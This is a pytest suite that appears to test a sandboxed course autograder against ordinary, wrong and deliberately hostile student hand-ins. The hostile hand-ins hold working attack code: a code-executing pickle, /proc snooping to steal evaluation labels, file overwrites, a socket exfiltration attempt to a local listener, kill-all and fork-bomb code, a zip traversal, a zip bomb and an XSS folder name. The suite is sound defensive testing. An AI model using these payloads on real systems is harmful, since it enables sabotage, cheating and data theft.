"""The instructor's grader (helpers/course/grading/) on a class of generated hand-ins: good, wrong and hostile.

The RPZ batch runs once (module fixture) through the command line with two workers and short limits, then every
test reads its results. Each hostile hand-in makes one attack, as a student trying to win the leaderboard or to
spoil the class would; its test asserts that nothing escaped and, through ``control``, that every ordinary
hand-in got exactly the grade it gets in a batch with no attacker at all. The "correct" hand-in is the workbook's
own solution files with the shipped MNIST weights.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import socket
import stat
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from pathlib import Path

import nbformat
import numpy as np
import pytest
import torch

from helpers.course import sandbox
from helpers.course.grading import cs7643 as C
from helpers.course.grading import reports as R
from helpers.course.grading.archive import UnsafeSubmission, find_submissions, unpack
from helpers.course.grading.batch import grade_all, grade_submission
from helpers.course.grading.config import GradingError, load_config, parse_limits
from helpers.course.grading.data import (
    GradingData,
    ImageSet,
    load_grading_data,
    load_image_set,
    public_mask,
    save_image_set,
)
from helpers.course.grading.make_eval_set import make_eval_set, public_images, source_recovery_rate
from helpers.course.grading.rpz import RPZ_FILES, RPZ_LAYER_CHECKS
from helpers.data import load_dataset
from helpers.paths import REPO_ROOT
from tests._processes import running, wait_for

# The grader refuses to run student code unisolated: without bubblewrap these skip, naming it (under CI they fail).
# Grading a batch of hand-ins takes minutes: these run with `scripts/test.sh -m slow` (CI does), not by default.
pytestmark = [pytest.mark.usefixtures("bubblewrap"), pytest.mark.slow]

NUMPY_NN = (REPO_ROOT / "helpers" / "numpy_nn.py").read_text()
PYTORCH_CNN = (REPO_ROOT / "helpers" / "pytorch_cnn.py").read_text()
WEIGHTS = REPO_ROOT / "assets" / "models" / "mynet_mnist.pt"
# A LeNet-5 trained on clean MNIST, without augmentation (python -m helpers.course.grading.calibrate, "LeNet, plain").
PLAIN_WEIGHTS = REPO_ROOT / "assets" / "models" / "lenet_plain_mnist.pt"
LIMITS = ["numpy_timeout_s=8", "torch_timeout_s=40", "unpacked_mb=5", "output_mb=1", "handin_budget_s=50",
          "max_processes=32"]
TOKEN = uuid.uuid4().hex   # in the command line of every process a hostile hand-in leaves running
MARKUP_ID = "<img src=x onerror=alert(1)>mallory"   # a student id (a folder's name) that is markup


def png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, format="PNG")
    return buffer.getvalue()


def png_bomb() -> bytes:
    """A 14000 x 14000 PNG of 92 kB or so: Pillow refuses to decode it (a decompression bomb)."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("1", (14000, 14000)).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def mutate(text: str, old: str, new: str) -> str:
    assert text.count(old) == 1, f"the solution no longer holds {old!r}: update the corpus"
    return text.replace(old, new)


def after_future(code: str, text: str = NUMPY_NN) -> str:
    """The solution's module with ``code`` run at import, right after its ``from __future__`` line."""
    line = "from __future__ import annotations\n"
    return mutate(text, line, line + code)


def in_classify(code: str) -> str:
    """The solution's pytorch_cnn.py whose ``classify`` runs ``code`` first (``x`` is the images, ``model`` the net);
    ``code`` may ``return`` labels of its own."""
    head = 'def classify(model: nn.Module, x: torch.Tensor, batch_size: int = 1024) -> torch.Tensor:\n'
    body = "".join(f"    {line}\n" for line in code.strip().splitlines())
    return mutate(PYTORCH_CNN, head, head + body)


def plain_lenet_module() -> str:
    """pytorch_cnn.py whose MyNet is the calibration's LeNet-5 (``helpers.course.grading.calibrate.LeNet``)."""
    import inspect

    from helpers.course.grading.calibrate import LeNet

    lenet = inspect.getsource(LeNet).replace("class LeNet(nn.Module):", "class MyNet(nn.Module):")
    renamed = mutate(PYTORCH_CNN, "class MyNet(nn.Module):", "class _OldNet(nn.Module):")
    return mutate(renamed, "\n\ndef count_parameters(", "\n\n" + lenet + "\n\ndef count_parameters(")


# One way of getting each layer wrong: (check that must fail, line of the solution, wrong line).
WRONG_LAYERS = {
    "wrong_relu": ("relu_backward", "return np.where(self.x > 0, dL_wrt_output, 0.0)", "return dL_wrt_output"),
    "wrong_linear": ("linear_forward", "return x @ self.W + self.b", "return x @ self.W"),
    "wrong_sigmoid": ("sigmoid_backward", "return dL_wrt_output * self.output * (1 - self.output)",
                      "return dL_wrt_output * self.output"),
    "wrong_se": ("se_backward", "return 2 * (self.x - self.y)", "return self.x - self.y"),
}


class Payload:
    """Unpickling it creates ``path``: what a malicious model.pt would do with a plain torch.load."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def rpz_files(numpy_nn=NUMPY_NN, pytorch_cnn=PYTORCH_CNN, model: bytes | None = None, skip=(), extra=None) -> dict:
    files = {"numpy_nn.py": numpy_nn, "numpy_nn_training.png": png(), "numpy_nn_classification.png": png(),
             "pytorch_cnn.py": pytorch_cnn, "model.pt": WEIGHTS.read_bytes() if model is None else model}
    return {**{k: v for k, v in files.items() if k not in skip}, **(extra or {})}


def rpz_zip(path: Path, **kw) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in rpz_files(**kw).items():
            z.writestr(name, content)
    return path


def state_bytes(state) -> bytes:
    buffer = io.BytesIO()
    torch.save(state, buffer)
    return buffer.getvalue()


def smoke_trained_weights() -> bytes:
    """MyNet after a few SGD steps on 64 smoke images: it runs, but classifies badly."""
    from helpers.pytorch_cnn import MyNet

    torch.manual_seed(0)
    images, labels = load_dataset("mnist", "train")
    x = torch.from_numpy(images[:64].astype(np.float32) / 255).unsqueeze(1)
    y = torch.from_numpy(labels[:64])
    model = MyNet()
    opt = torch.optim.SGD(model.parameters(), lr=1e-3)
    for _ in range(3):
        opt.zero_grad()
        torch.nn.functional.nll_loss(model(x), y).backward()
        opt.step()
    return state_bytes(model.state_dict())


def ordinary_corpus(subs: Path) -> None:
    """The hand-ins without an attack: right, wrong, incomplete. ``control`` grades them alone."""
    from helpers.pytorch_cnn import FCNet

    rpz_zip(subs / "correct.zip")
    rpz_zip(subs / "copycat.zip")   # the same files: the same accuracy, so the same place and points
    for name, (_, old, new) in WRONG_LAYERS.items():  # a folder of folders: numpy_nn.py only
        (subs / name).mkdir()
        (subs / name / "numpy_nn.py").write_text(mutate(NUMPY_NN, old, new))
    shapes = mutate(NUMPY_NN, "self.dL_wrt_W = self.x[:, :, None] * dL_wrt_output[:, None, :]",
                    "self.dL_wrt_W = self.x.T @ dL_wrt_output")
    rpz_zip(subs / "wrong_shapes.zip", numpy_nn=shapes,
            pytorch_cnn=mutate(PYTORCH_CNN, "return labels.to(torch.int64)", "return labels.to(torch.int64)[:, None]"))
    rpz_zip(subs / "missing_files.zip", skip=("model.pt", "numpy_nn_training.png", "pytorch_cnn.py"))
    rpz_zip(subs / "other_architecture.zip", model=state_bytes(FCNet().state_dict()))
    rpz_zip(subs / "smoke_trained.zip", model=smoke_trained_weights())
    rpz_zip(subs / "plain_lenet.zip", pytorch_cnn=plain_lenet_module(), model=PLAIN_WEIGHTS.read_bytes())


def hostile_corpus(subs: Path, root: Path, out: Path, eval_path: Path, port: int) -> None:
    """One hand-in per attack; the attacks know every path of this machine that matters (the test bakes them in)."""
    marker = root / "pickle-ran.txt"
    rpz_zip(subs / "endless_import.zip", numpy_nn=after_future("while True:\n    pass\n"))
    rpz_zip(subs / "malicious_pickle.zip", model=state_bytes(Payload(str(marker))))
    (subs / "memory_hog").mkdir()
    (subs / "memory_hog" / "numpy_nn.py").write_text(after_future("hoard = bytearray(1 << 40)\n"))
    (subs / "chatty").mkdir()
    (subs / "chatty" / "numpy_nn.py").write_text(after_future("import sys\nsys.stdout.write('x' * (8 << 20))\n"))
    with zipfile.ZipFile(subs / "traversal.zip", "w") as z:
        z.writestr("numpy_nn.py", NUMPY_NN)
        z.writestr("../escaped.py", "print('out of the folder')\n")
    with zipfile.ZipFile(subs / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("model.pt", bytes(32 << 20))  # 32 MB of zeros, 32 kB compressed; the limit here is 5 MB

    # 1. Isolation. Reading the labels: through the grader's command line (/proc/<ancestor>/cmdline and cwd), or
    # its path baked in; any label found is returned as the predictions.
    rpz_zip(subs / "spy_eval_set.zip", pytorch_cnn=in_classify(f"""
import os, numpy as _np
found = [{str(eval_path)!r}]
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
        cwd = os.readlink(f"/proc/{{pid}}/cwd")
    except OSError:
        continue
    if b"--eval-set" in args:
        found.append(os.path.join(cwd, args[args.index(b"--eval-set") + 1].decode()))
for path in found:
    try:
        labels = _np.load(path)["labels"]
        return torch.from_numpy(_np.resize(labels, len(x))).to(torch.int64)
    except Exception:
        pass
"""))
    secrets = [str(eval_path), str(REPO_ROOT / "helpers" / "numpy_nn.py"), str(subs / "correct.zip"),
               str(out), str(Path.home()), str(root)]
    rpz_zip(subs / "spy_files.zip", numpy_nn=after_future(f"""
import os
for _path in {secrets!r}:
    try:
        _seen = os.listdir(_path) if os.path.isdir(_path) else open(_path, "rb").read(10)
    except OSError:
        continue
    if _path != {str(Path.home())!r} or [n for n in _seen if n != ".pyenv"]:
        raise RuntimeError("leaked: " + _path)
"""))
    victim = subs / "wrong_relu" / "numpy_nn.py"
    targets = [str(victim), str(out / "grades.csv"), str(out / "results" / "correct.json"), str(Path.home() / TOKEN),
               str(root / TOKEN), f"/tmp/{TOKEN}", str(subs / f"{TOKEN}.zip")]
    (subs / "vandal").mkdir()
    (subs / "vandal" / "numpy_nn.py").write_text(after_future(f"""
for _path in {targets!r}:
    try:
        open(_path, "w").write("overwritten")
    except OSError:
        pass
"""))
    (subs / "network").mkdir()
    (subs / "network" / "numpy_nn.py").write_text(after_future(f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"exfiltrated")
    raise RuntimeError("connected")
except OSError:
    pass
"""))
    # 2. Stopping or starving the class.
    (subs / "kills_parent").mkdir()
    (subs / "kills_parent" / "numpy_nn.py").write_text(after_future("import os\nos.kill(os.getppid(), 9)\n"))
    rpz_zip(subs / "kills_everyone.zip", pytorch_cnn=after_future(
        "import os, signal\nfor _p in range(2, 1 << 16):\n    try:\n        os.kill(_p, 9)\n    except OSError:\n"
        "        pass\nos.kill(-1, 9)\n", PYTORCH_CNN))
    rpz_zip(subs / "forker.zip", pytorch_cnn=after_future(f"""
import os, sys, time
_kids = 0
for _ in range(300):
    try:
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "while True: pass", "{TOKEN}"])
        _kids += 1
    except OSError:
        break
time.sleep(10)
""", PYTORCH_CNN))
    (subs / "daemon").mkdir()
    (subs / "daemon" / "numpy_nn.py").write_text(after_future(f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import time; time.sleep(20); open({str(out / 'grades.csv')!r}, 'w').write('rewritten')", "{TOKEN}"])
    os._exit(0)
"""))
    rpz_zip(subs / "slowpoke.zip", numpy_nn=after_future("import time\ntime.sleep(3600)\n"),
            pytorch_cnn=after_future("import time\ntime.sleep(3600)\n", PYTORCH_CNN))
    # 3. Looking the evaluation set up: the public test labels in the public order; nearest-neighbour matching
    # against the public test images shipped in the hand-in; what the test images leave for the evaluation run.
    images, labels = load_dataset("mnist", "test")
    buffer = io.BytesIO()
    np.savez_compressed(buffer, images=images, labels=labels)
    lookup = """
import numpy as _np
_pub = _np.load("public.npz")
"""
    rpz_zip(subs / "public_labels.zip", extra={"public.npz": buffer.getvalue()}, pytorch_cnn=in_classify(
        lookup + "return torch.from_numpy(_np.resize(_pub['labels'], len(x))).to(torch.int64)"))
    rpz_zip(subs / "nearest_neighbour.zip", extra={"public.npz": buffer.getvalue()}, pytorch_cnn=in_classify(lookup + """
def _rows(a):
    a = a.reshape(len(a), -1).astype(_np.float32)
    a -= a.mean(axis=1, keepdims=True)
    return a / (_np.linalg.norm(a, axis=1, keepdims=True) + 1e-6)
_best = (_rows(x.numpy()[:, 0] * 255) @ _rows(_pub["images"]).T).argmax(axis=1)
return torch.from_numpy(_pub["labels"][_best]).to(torch.int64)
"""))
    rpz_zip(subs / "remembers.zip", pytorch_cnn=in_classify("""
import os, numpy as _np
_store = os.path.join(os.environ.get("TMPDIR", "/tmp"), "seen.npy")
_seen = _np.load(_store) if os.path.exists(_store) else None
_np.save(_store, x.numpy()[:5])
if _seen is not None and len(x) > 8:
    return torch.zeros(len(x), dtype=torch.int64)   # it saw another set in this process's world: sabotage
"""))
    # 5. Markup in a student id (a folder name).
    (subs / MARKUP_ID).mkdir()
    (subs / MARKUP_ID / "numpy_nn.py").write_text(NUMPY_NN)
    # 6. Odd files: a decompression bomb and a truncated image among the PNGs.
    rpz_zip(subs / "png_bomb.zip", extra={"numpy_nn_training.png": png_bomb()})
    rpz_zip(subs / "truncated_png.zip", extra={"numpy_nn_classification.png": png()[:40]})


def run_grader(root: Path, subs: Path, out: Path, eval_path: Path, *extra: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    return subprocess.run([sys.executable, "-m", "helpers.course.grading", "rpz", str(subs), "--out", str(out),
                           "--workers", "2", "--eval-set", str(eval_path), "--test-limit", "200", "--quiet",
                           *[a for lim in LIMITS for a in ("--limit", lim)], *extra],
                          cwd=root, env=env, capture_output=True, text=True, timeout=900)


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever connects: the target of the network attack."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted, self._stop = [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop:
            try:
                self.accepted.append(self.server.accept())
            except (TimeoutError, OSError):
                pass

    def close(self):
        self._stop = True
        self.thread.join()
        self.server.close()


def repository_state() -> str:
    """What git sees in the checkout, ignored files included, less Python's bytecode caches (which any process run
    from the checkout may write or a test beside this one remove: the sandboxes see the checkout read-only)."""
    status = subprocess.run(["git", "status", "--porcelain", "--ignored"], cwd=REPO_ROOT, capture_output=True,
                            text=True).stdout
    return "".join(line for line in status.splitlines(keepends=True) if not line.rstrip().endswith("__pycache__/"))


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Build the corpus, grade it with ``python -m helpers.course.grading rpz --workers 2``; the results by student."""
    root = tmp_path_factory.mktemp("grading")
    subs = root / "submissions"
    subs.mkdir()
    out = root / "out"
    images, labels = load_dataset("mnist", "test")
    arrays = make_eval_set(images, labels, seed=3, n=300)
    arrays.pop("source")
    eval_path = save_image_set(root / "eval.npz", **arrays)
    listener = Listener()
    ordinary_corpus(subs)
    hostile_corpus(subs, root, out, eval_path, listener.port)
    victim_before = (subs / "wrong_relu" / "numpy_nn.py").read_text()
    before = repository_state()
    proc = run_grader(root, subs, out, eval_path)
    after = repository_state()
    time.sleep(1)
    listener.close()
    assert proc.returncode == 0, proc.stderr
    results = {json.loads(p.read_text())["student"]: json.loads(p.read_text()) for p in (out / "results").glob("*.json")}
    return {"root": root, "subs": subs, "out": out, "results": results, "stdout": proc.stdout, "eval": eval_path,
            "marker": root / "pickle-ran.txt", "repo_before": before, "repo_after": after, "listener": listener,
            "victim_before": victim_before, "arrays": arrays}


@pytest.fixture(scope="module")
def control(batch, tmp_path_factory):
    """The ordinary hand-ins graded alone, with the same evaluation set: what an attack must not change."""
    root = tmp_path_factory.mktemp("control")
    subs = root / "submissions"
    subs.mkdir()
    ordinary_corpus(subs)
    proc = run_grader(root, subs, root / "out", batch["eval"])
    assert proc.returncode == 0, proc.stderr
    return {json.loads(p.read_text())["student"]: json.loads(p.read_text()) for p in (root / "out" / "results").glob("*.json")}


def failed(result: dict) -> set[str]:
    return {c["name"] for c in result["checks"] if not c["passed"]}


def check(result: dict, name: str) -> dict:
    return next(c for c in result["checks"] if c["name"] == name)


def grade_of(result: dict):
    """What an attack must not change: every check's outcome and points, and the metric."""
    return [(c["name"], c["passed"], c["points"]) for c in result["checks"]], result["metric"]


MODEL_CHECKS = {"mynet_loads", "classify_contract", "clean_accuracy", "eval_accuracy"}


# --------------------------------------------------------------------------- the batch and the ordinary hand-ins


def test_batch_completes_with_a_row_for_everyone(batch):
    out, results = batch["out"], batch["results"]
    names = {p.name for p in batch["subs"].iterdir() if not p.name.startswith(TOKEN)}
    assert set(results) == {n.removesuffix(".zip") for n in names}
    for name in ("grades.csv", "leaderboard.csv", "leaderboard.html", "summary.txt"):
        assert (out / name).is_file()
    assert len(list((out / "feedback").glob("*.md"))) == len(results)
    assert not list(out.rglob("*.tmp"))  # atomic writes leave no temporary files
    rows = list(csv.DictReader((out / "grades.csv").open()))
    assert sorted(r["student"] for r in rows) == sorted(results)
    assert {"relu_forward", "linear_backward", "eval_accuracy", "challenge", "total", "accuracy", "qualified"} <= set(rows[0])
    assert f"graded {len(results)} hand-ins" in batch["stdout"]
    assert "student code: isolated by bubblewrap" in (out / "summary.txt").read_text()


def test_no_attack_changes_an_ordinary_hand_ins_grade(batch, control):
    assert set(control) <= set(batch["results"])
    for student, alone in control.items():
        assert grade_of(batch["results"][student]) == grade_of(alone), student


def test_correct_submission_gets_full_points_and_first_place(batch):
    r = batch["results"]["correct"]
    assert failed(r) == set() and r["score"] == r["max_score"] == 12
    assert r["metric"]["name"] == "eval_accuracy" and r["metric"]["value"] > 0.9
    assert r["rank"] == 1 and r["challenge_points"] == 16 and r["total"] == 28


@pytest.mark.parametrize("student", sorted(WRONG_LAYERS))
def test_each_wrong_layer_fails_only_its_check(batch, student):
    r = batch["results"][student]
    layer_failures = failed(r) & set(RPZ_LAYER_CHECKS)
    assert layer_failures == {WRONG_LAYERS[student][0]}
    message = check(r, WRONG_LAYERS[student][0])["message"]
    assert "differs from the expected values" in message and check(r, WRONG_LAYERS[student][0])["hint"]
    # a folder with numpy_nn.py only: the files and model checks fail, each with its reason
    assert MODEL_CHECKS | {"files"} <= failed(r)
    assert "pytorch_cnn.py is missing" in check(r, "mynet_loads")["message"]


def test_wrong_shapes_are_named_with_the_contract(batch):
    r = batch["results"]["wrong_shapes"]
    assert failed(r) == {"linear_backward", "classify_contract", "clean_accuracy", "eval_accuracy"}
    assert "expected (batch, input_dim, output_dim)" in check(r, "linear_backward")["message"]
    assert "must return 8 int64 class indices of shape (8,)" in check(r, "classify_contract")["message"]


def test_missing_files_are_named(batch):
    r = batch["results"]["missing_files"]
    for name in ("model.pt", "numpy_nn_training.png", "pytorch_cnn.py"):
        assert f"{name} is missing" in check(r, "files")["message"]
    assert failed(r) == {"files"} | MODEL_CHECKS
    assert r["score"] == 8  # the layers earned their points


def test_model_of_another_architecture_does_not_load(batch):
    r = batch["results"]["other_architecture"]
    assert failed(r) == MODEL_CHECKS
    assert "state_dict" in check(r, "mynet_loads")["message"] or "Missing key" in check(r, "mynet_loads")["message"]


def test_smoke_trained_model_is_graded_on_its_low_accuracy(batch):
    r, best = batch["results"]["smoke_trained"], batch["results"]["correct"]
    assert failed(r) == {"clean_accuracy", "eval_accuracy"}
    assert r["metric"]["value"] < 0.5 < best["metric"]["value"]
    assert r["rank"] > best["rank"] and r["challenge_points"] == 0 and not r["qualified"]


def test_endless_import_times_out_and_keeps_the_model_points(batch):
    r = batch["results"]["endless_import"]
    assert failed(r) == set(RPZ_LAYER_CHECKS)
    assert "timed out after 8 s" in check(r, "relu_forward")["message"]
    assert r["score"] == 4 and r["metric"]["value"] > 0.9


def test_malicious_pickle_never_runs(batch, tmp_path):
    r = batch["results"]["malicious_pickle"]
    assert not batch["marker"].exists()
    assert failed(r) == MODEL_CHECKS
    assert "weights_only=True" in check(r, "mynet_loads")["message"]
    # the payload is live: an unsafe load would have run it
    live = tmp_path / "live-payload.txt"
    torch.load(io.BytesIO(state_bytes(Payload(str(live)))), weights_only=False)
    assert live.exists()


def test_memory_hog_and_chatty_import_fail_with_a_reason(batch):
    assert "MemoryError" in check(batch["results"]["memory_hog"], "relu_forward")["message"]
    assert "more than 1 MB" in check(batch["results"]["chatty"], "relu_forward")["message"]


def test_traversal_and_zip_bomb_are_refused_with_a_zero(batch):
    for student, reason in (("traversal", "'..'"), ("zip_bomb", "zip bomb")):
        r = batch["results"][student]
        assert r["refused"] and reason in r["refused"] and r["score"] == 0 and r["total"] == 0
        assert reason in (batch["out"] / "feedback" / f"{student}.md").read_text()
    assert not (batch["subs"].parent / "escaped.py").exists()


def test_feedback_says_what_failed_without_hidden_data(batch):
    text = (batch["out"] / "feedback" / "wrong_se.md").read_text()
    assert "### se_backward" in text and "Hint:" in text and "FAILED" in text
    good = (batch["out"] / "feedback" / "correct.md").read_text()
    assert "## What failed" not in good and "12 / 12" in good and R.pseudonym("correct", load_config("rpz")) in good
    labels = np.load(batch["eval"])["labels"]
    assert " ".join(map(str, labels[:20])) not in good


# --------------------------------------------------------------------------- 1. isolation


def test_a_hand_in_finds_no_evaluation_labels_through_proc_or_their_path(batch):
    spy, honest = batch["results"]["spy_eval_set"], batch["results"]["correct"]
    assert spy["metric"] == honest["metric"]   # it classified with its model: no label was found to return


def test_a_hand_in_reads_no_file_outside_its_folder(batch):
    r = batch["results"]["spy_files"]
    assert failed(r) == set(), [c["message"] for c in r["checks"] if not c["passed"]]


def test_a_hand_in_writes_nowhere_but_its_own_temporary_folder(batch):
    out, root = batch["out"], batch["root"]
    assert (batch["subs"] / "wrong_relu" / "numpy_nn.py").read_text() == batch["victim_before"]
    assert "overwritten" not in (out / "grades.csv").read_text()
    for path in (Path.home() / TOKEN, root / TOKEN, Path("/tmp") / TOKEN, batch["subs"] / f"{TOKEN}.zip"):
        assert not path.exists(), path
    assert batch["repo_before"] == batch["repo_after"]
    assert sorted(p.name for p in root.iterdir()) == ["eval.npz", "out", "submissions"]


def test_a_hand_in_cannot_reach_the_network(batch):
    assert batch["listener"].accepted == []
    assert failed(batch["results"]["network"]) >= {"files"} and not failed(batch["results"]["network"]) & set(RPZ_LAYER_CHECKS)


# --------------------------------------------------------------------------- 2. stopping or starving the class


def test_a_hand_in_that_kills_its_parent_loses_its_own_points_only(batch):
    r = batch["results"]["kills_parent"]
    assert failed(r) >= set(RPZ_LAYER_CHECKS)
    assert "killed" in check(r, "relu_forward")["message"]


def test_a_hand_in_that_kills_every_process_it_can_reaches_only_its_own(batch):
    r = batch["results"]["kills_everyone"]
    assert failed(r) == MODEL_CHECKS and not failed(r) & set(RPZ_LAYER_CHECKS)


def test_a_hand_in_that_forks_without_end_is_capped_and_ends(batch):
    assert wait_for(lambda: not running(TOKEN), timeout=10), "a process a hand-in started outlived the batch"
    r = batch["results"]["forker"]
    assert not failed(r) & set(RPZ_LAYER_CHECKS)


def test_a_daemon_started_by_a_hand_in_ends_with_its_run(batch):
    assert not running(TOKEN)
    time.sleep(1)
    assert "rewritten" not in (batch["out"] / "grades.csv").read_text()
    assert not failed(batch["results"]["daemon"]) & set(RPZ_LAYER_CHECKS)


def test_a_hand_in_has_a_total_time_budget(batch):
    r = batch["results"]["slowpoke"]
    assert "timed out after 8 s" in check(r, "relu_forward")["message"]
    assert "time budget of 50 s was used up" in check(r, "eval_accuracy")["message"]
    assert r["seconds"] < 50 + 30 and r["metric"] is None


# --------------------------------------------------------------------------- 3. looking up the evaluation set


def test_the_public_test_labels_in_public_order_score_at_chance(batch):
    assert batch["results"]["public_labels"]["metric"]["value"] < 0.3


def test_nearest_neighbour_matching_on_public_images_recovers_no_labels(batch):
    nn, honest = batch["results"]["nearest_neighbour"], batch["results"]["correct"]
    assert nn["metric"]["value"] < min(0.85, honest["metric"]["value"] - 0.2)


def test_clean_test_images_and_evaluation_images_never_meet_in_one_run(batch):
    assert batch["results"]["remembers"]["metric"] == batch["results"]["correct"]["metric"]


def test_make_eval_set_hides_the_sources_of_its_images():
    images, labels = load_dataset("mnist", "test")
    arrays = make_eval_set(images, labels, seed=5, n=300)
    public, offsets, _ = public_images()
    sources = arrays["source"] + offsets["mnist/test"]
    assert source_recovery_rate(arrays["images"], sources, public) <= 0.05
    plain = make_eval_set(images, labels, seed=5, n=300, placement=False, camera=False)
    assert source_recovery_rate(plain["images"], sources, public) == 1.0   # the matcher finds untouched sources
    assert not np.array_equal(np.sort(arrays["source"]), arrays["source"])   # a secret order, not the public one
    again = make_eval_set(images, labels, seed=5, n=300)
    assert np.array_equal(arrays["images"], again["images"]) and np.array_equal(arrays["labels"], labels[arrays["source"]])


def test_make_eval_set_from_a_folder_and_its_refusals(tmp_path):
    from PIL import Image

    from helpers.course.grading.make_eval_set import load_folder, main

    for label in (3, 7):
        (tmp_path / "own" / str(label)).mkdir(parents=True)
        for i in range(2):
            image = Image.new("L", (60, 40), 255)   # dark ink on white paper, any size
            image.paste(0, (20 + 5 * i, 10, 35, 30))
            image.save(tmp_path / "own" / str(label) / f"{i}.png")
    images, labels = load_folder(tmp_path / "own")
    assert images.shape == (4, 28, 28) and images.dtype == np.uint8 and sorted(labels) == [3, 3, 7, 7]
    assert images[:, 0, 0].max() < 50 and images.max() > 200   # inverted: light digits on a dark background
    assert main(["--from-folder", str(tmp_path / "own"), "--out", str(tmp_path / "own.npz"), "--seed", "1"]) == 0
    assert load_image_set(tmp_path / "own.npz").images.shape == (4, 28, 28)
    (tmp_path / "bad" / "seven").mkdir(parents=True)
    with pytest.raises(ValueError, match="sub-folders named by their label"):
        load_folder(tmp_path / "bad")
    (tmp_path / "broken" / "1").mkdir(parents=True)
    (tmp_path / "broken" / "1" / "x.png").write_bytes(png()[:30])
    with pytest.raises(ValueError, match=r"x.png: not a readable image"):
        load_folder(tmp_path / "broken")
    assert main(["--out", str(tmp_path / "own.npz")]) == 1   # never replaced


# --------------------------------------------------------------------------- 4. what the evaluation set measures


def test_a_network_trained_without_augmentation_fails_the_baseline_that_an_augmented_one_passes(batch):
    plain, augmented = batch["results"]["plain_lenet"], batch["results"]["correct"]
    threshold = load_config("rpz")["checks"]["eval_accuracy"]["threshold"]
    assert check(plain, "clean_accuracy")["passed"]                     # a good network on clean digits ...
    assert plain["metric"]["value"] < threshold <= augmented["metric"]["value"]   # ... that the camera defeats
    assert "eval_accuracy" in failed(plain) and not plain["qualified"]


# --------------------------------------------------------------------------- 5. fair ranking


def test_equal_scores_share_place_and_points(batch):
    a, b = batch["results"]["correct"], batch["results"]["copycat"]
    assert a["metric"]["private"] == b["metric"]["private"]
    assert (a["rank"], a["challenge_points"]) == (b["rank"], b["challenge_points"]) == (1, 16)
    board = {r["student"]: r for r in csv.DictReader((batch["out"] / "leaderboard.csv").open())}
    assert board["correct"]["rank"] == board["copycat"]["rank"] == "1"
    # every hand-in with the shipped weights ties for first place; the next one down is placed after all of them
    tied = [s for s, r in batch["results"].items() if r["metric"] and r["metric"]["private"] == a["metric"]["private"]]
    assert {board[s]["rank"] for s in tied} == {"1"}
    assert min(int(r["rank"]) for s, r in board.items() if s not in tied and r["rank"]) == len(tied) + 1


def test_the_public_board_shows_pseudonyms_marks_who_does_not_qualify_and_scores_only_the_evaluation(batch):
    page = (batch["out"] / "leaderboard.html").read_text()
    config = load_config("rpz")
    for student in batch["results"]:
        assert f"<td>{student}</td>" not in page
        assert R.pseudonym(student, config) in page
    assert "<img" not in page and "mallory" not in page
    lenet_row = next(line for line in page.splitlines() if R.pseudonym("plain_lenet", config) in line)
    assert "not qualified" in lenet_row
    slow = next(line for line in page.splitlines() if R.pseudonym("slowpoke", config) in line)
    assert "no score" in slow   # its evaluation never ran: not ranked by its clean accuracy either


def test_rank_points_follow_ties_qualification_and_the_course_rules():
    config = load_config("rpz")

    def result(student, private, public, passed=True):
        checks = [{"name": "a", "passed": passed, "points": 1.0 if passed else 0.0, "max_points": 1.0}]
        return {"student": student, "checks": checks, "score": checks[0]["points"], "max_score": 1.0,
                "metric": {"name": "eval_accuracy", "value": private, "public": public, "private": private}}

    results = [result(s, p, 1 - p) for s, p in (("e", 0.5), ("a", 0.9), ("b", 0.8), ("b2", 0.8), ("d", 0.6))]
    results += [result("failing", 0.99, 0.99, passed=False), result("f", 0.4, 0.05), {
        "student": "refused", "checks": [], "score": 0.0, "max_score": 1.0, "metric": None, "refused": "x"}]
    ordered = R.rank(results, config)
    points = {r["student"]: r["challenge_points"] for r in results}
    assert points == {"a": 16, "b": 14, "b2": 14, "d": 10, "e": 8, "f": 8, "failing": 0, "refused": 0}
    assert [r["student"] for r in ordered][:4] == ["failing", "a", "b", "b2"]  # ranked, but not qualified
    ranks = {r["student"]: r["rank"] for r in results}
    assert ranks["b"] == ranks["b2"] == 3 and ranks["d"] == 5 and ranks["refused"] is None
    assert {r["student"]: r["public_rank"] for r in results}["f"] == 7
    config["challenge"]["show_ids"] = True
    assert "<td>a</td>" in R.leaderboard_html(results, config)


# --------------------------------------------------------------------------- 6. odd inputs


def test_a_decompression_bomb_or_a_truncated_png_costs_the_files_check_only(batch):
    for student, words in (("png_bomb", "more than 50 million pixels"), ("truncated_png", "not a readable image")):
        r = batch["results"][student]
        assert failed(r) == {"files"} and words in check(r, "files")["message"], check(r, "files")["message"]
        assert r["score"] == 12 and r["metric"] == batch["results"]["correct"]["metric"]


def test_grade_one_prints_json_and_refuses_bad_paths_and_sets_in_one_line(batch, tmp_path):
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}

    def one(*args):
        return subprocess.run([sys.executable, "-m", "helpers.course.grading", "one", "rpz", *args,
                               "--limit", "numpy_timeout_s=8", "--test-limit", "50"], cwd=tmp_path, env=env,
                              capture_output=True, text=True, timeout=300)

    proc = one(str(batch["subs"] / "png_bomb.zip"))
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout)
